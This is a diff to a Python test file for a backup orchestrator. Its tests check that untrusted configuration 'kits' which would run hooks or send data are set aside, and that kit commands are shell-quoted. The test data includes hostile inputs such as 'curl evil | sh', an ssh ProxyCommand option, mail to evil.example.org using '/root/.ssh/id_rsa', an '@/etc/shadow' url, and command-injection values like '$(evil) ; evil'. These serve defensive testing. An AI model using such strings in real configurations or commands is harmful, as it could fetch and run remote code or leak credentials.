@@ -7,6 +7,14 @@ from pathlib import Path
 
 import pytest
 
+from orchestrator import compose
+from orchestrator.config.decode import declared_fields
+from orchestrator.config.kit_review import ACTING, HARMLESS, host_of, review_kit
+from orchestrator.config.models import SECTIONS, JobKeys
+from orchestrator.domain.errors import OrchestratorError
+from orchestrator.domain.job import EVENTS
+from orchestrator.engines.zfs.recovery.kit_diff import parse_kit_content, read_kit
+from orchestrator.engines.zfs.restore.uid_map import changed_accounts
 from tests.whole.house import House, Ran
 
 JOB = 'engine = "rsync"\nsource = "{source}"\ntarget = "place"\n{more}'
@@ -65,7 +73,7 @@ def test_what_would_run_is_shown_and_set_aside_until_it_is_trusted_by_name(
     assert told.code == 0, told
     acts = {each["name"]: each["acts"] for each in told["not_trusted"]}
     assert acts["evil"] == ["hook before: /tmp/evil now", "[pipe] ssh-options: -oProxyCommand=/tmp/evil"]
-    assert acts["poolferry"] == ["[metrics] {'textfile': '/etc/passwd'}"]
+    assert acts["poolferry"] == ["[metrics] textfile = /etc/passwd"]
     assert told["left_out"] == ["hooks/mail"]
     assert not new.config.exists()
     assert bootstrap(new, kit.parent).code == 0
@@ -151,3 +159,110 @@ def test_names_of_a_stranger_are_no_names_of_jobs(kit: Path, new: House) -> None
     assert told["jobs"] == ["photos"]
     assert all("\n" not in line for line in told["left_out"]), told["left_out"]
     assert sorted(path.name for path in (new.config / "jobs").iterdir()) == ["photos.toml"]
+
+
+LONG = "x" * 3000
+ACTS = {
+    "a hook in a list of lists": (
+        '[hooks]\ndone = [["/bin/true"], ["sh", "-c", "evil"]]\n',
+        "hook done: /bin/true; sh -c evil",
+    ),
+    "hooks that are no table": ('hooks = ["/tmp/evil"]\n', "hooks: /tmp/evil"),
+    "a hook behind many words": (f'[hooks]\ndone = ["/bin/true", "{LONG}", "; evil"]\n', "'; evil'"),
+    "a hook behind very many words": (f'[hooks]\ndone = ["sh", "-c", "{LONG * 9}; evil"]\n', "; evil'"),
+    "a check-command": ('[drill]\ncheck-command = ["/tmp/evil"]\n', "[drill] check-command: /tmp/evil"),
+    "scratch space": ('[drill]\nscratch = "/etc/cron.d"\n', "[drill] scratch: /etc/cron.d"),
+    "ssh options": (
+        '[pipe]\nssh-options = ["-oProxyCommand=/tmp/evil"]\n',
+        "[pipe] ssh-options: -oProxyCommand=/tmp/evil",
+    ),
+    "an open transport": ('[pipe]\ntransport = "mbuffer"\npublic-transport = true\n', "[pipe] public-transport: True"),
+    "sanoid's directory": ('[snapshots]\nuse = "/tmp/evil"\n', "[snapshots] use: /tmp/evil"),
+    "a mirror": ("[rsync]\npoints = false\n", "[rsync] points: False"),
+    "a section of a later version": ('[run]\nprogram = "/tmp/evil"\n', "[run] program: /tmp/evil"),
+    "a key of a later version": ('[rsync]\nprogram = "/tmp/evil"\n', "[rsync] program: /tmp/evil"),
+    "a mistake before a hook": (
+        '[hooks\ndone = "/tmp/evil"\n',
+        "it cannot be read, and might run anything once it is mended",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", ACTS)
+def test_whatever_would_run_or_send_is_shown_whole_and_set_aside(kind: str) -> None:
+    more, shown = ACTS[kind]
+    files = {"jobs/evil.toml": f'engine = "rsync"\nsource = "/srv"\ntarget = "place"\n{more}'.encode()}
+    review = review_kit(files, frozenset())
+    assert list(review.accepted) == []
+    (aside,) = review.set_aside
+    assert any(shown in act for act in aside.acts), aside
+    assert not any("\n" in act for act in aside.acts)
+    assert list(review_kit(files, frozenset(["evil"])).accepted) == ["jobs/evil.toml"]
+
+
+def test_each_key_of_a_job_is_known_to_act_or_to_be_harmless() -> None:
+    """A key that somebody adds to the configuration must be judged; until then it sets a kit's file aside."""
+    sections = {**SECTIONS, **{each.name: each.options for each in compose.EngineSections().values()}}
+    keys = set(declared_fields(JobKeys))
+    keys |= {f"{section}.{key}" for section, model in sections.items() for key in declared_fields(model)}
+    keys |= {f"hooks.{event}" for event in (*EVENTS, "timeout")}
+    whole = {key.partition(".")[0] for key in keys}
+    assert whole >= {name for name in HARMLESS | ACTING if "." not in name} - keys
+
+    def judged(key: str) -> bool:
+        return key in HARMLESS | ACTING or key.partition(".")[0] in HARMLESS | ACTING
+
+    assert sorted(key for key in keys if not judged(key)) == []
+    assert not HARMLESS & ACTING
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['notice = 5\n', '[notice]\nx = "evil"\n', '[[notice]]\nkind = "mail"\nto = ["evil@example.org"]\n',
+     '[notice.x]\nkind = "mail"\nsmtp = "evil.example.org"\nuser = "a"\npassword-file = "/root/.ssh/id_rsa"\n',
+     '[notice.x]\nkind = "apprise"\nurl = "@/etc/shadow"\n', '[metrics]\nlisten = "0.0.0.0:80"\n', '[later]\nx = "evil"\n', "[["],
+)  # fmt: skip
+def test_what_the_machines_own_file_would_send_is_shown_and_set_aside(text: str) -> None:
+    review = review_kit({"poolferry.toml": text.encode()}, frozenset())
+    assert (list(review.accepted), len(review.set_aside)) == ([], 1)
+    for word in ("evil.example.org", "/root/.ssh/id_rsa", "@/etc/shadow"):
+        assert (word in text) == (word in str(review.set_aside[0].acts))
+
+
+def test_where_copies_would_go_is_shown_and_another_host_is_set_aside() -> None:
+    files = {
+        "targets.toml": b'[place.here]\npath = "/backup"\n[place.away]\npath = "ssh://nas/backup"\n',
+        "jobs/a.toml": b'engine = "rsync"\nsource = "/srv"\ntarget = "here"\n',
+        "jobs/b.toml": b'engine = "rsync"\nsource = "/srv"\ntarget = "away"\n',
+    }
+    review = review_kit(files, frozenset())
+    assert review.copies == ("a: /srv to here (/backup)", "b: /srv to away (ssh://nas/backup)")
+    assert [(each.name, each.acts) for each in review.set_aside] == [("b", ("copies are sent to ssh://nas/backup",))]
+    assert review_kit(files, frozenset(), host=host_of("ssh://root@NAS/backup")).set_aside == ()
+
+
+def test_a_name_that_the_kit_does_not_have_is_a_mistake(kit: Path, new: House) -> None:
+    told = bootstrap(new, kit.parent, "--trust", "fotos")
+    assert (told.code, "--trust fotos: the kit has no such file" in told["error"]) == (1, True), told
+    assert not new.config.exists()
+
+
+@pytest.mark.parametrize(
+    "content",
+    ["", "{", "[]", "null", "NaN", "[" * 200_000, '{"datasets": 5}', '{"snapshots": [["a@b", "x", "1"]]}', '{"snapshots": [[1, 2]]}',
+     '{"create": "curl evil | sh"}', '{"create": 5}', '{"above": ["zfs create tank/a; evil", 5]}', '{"above": ["reboot"]}', '{"own": ["x"]}',
+     '{"users": {"0 -o": "x"}}', '{"accounts": {"users": {"x": "0; evil"}}}', '{"bookmarks": {"a": 1}}'],
+)  # fmt: skip
+def test_a_kit_of_datasets_that_a_stranger_wrote_is_one_error(content: str) -> None:
+    with pytest.raises(OrchestratorError, match="the recovery kit in the history cannot be read"):
+        read_kit(content, "tank")
+
+
+def test_commands_of_a_kit_are_one_call_of_the_program_whatever_they_hold() -> None:
+    told = read_kit(
+        '{"create": "zpool create tank $(evil) ; evil", "above": ["zfs create tank/a `evil`"], "datasets": {}}', "tank"
+    )
+    assert told.create == "zpool create tank '$(evil)' ';' evil"
+    assert told.above == ("zfs create tank/a '`evil`'",)
+    then = parse_kit_content('{"users": {"1000": "x;evil"}}')
+    assert all("'x;evil'`" in line for line in changed_accounts(then, {"users": {}}))
